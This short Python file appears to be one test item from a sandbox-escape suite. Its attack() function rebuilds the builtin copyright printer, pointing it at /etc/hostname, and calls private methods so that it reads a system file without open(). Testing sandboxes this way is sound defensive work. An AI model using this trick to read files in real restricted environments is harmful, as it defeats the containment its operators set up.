"""No app reads a file by the object that prints the licence."""

CLASS = "builtins"
BOUNDARY = "both"
NEEDS = ()


def attack():
    kind = type(copyright)
    printer = kind("x", "", ["hostname"], ["/etc"])
    printer._Printer__setup()
    line = printer._Printer__lines[0]
    return "ESCAPED: " + line if line else ""
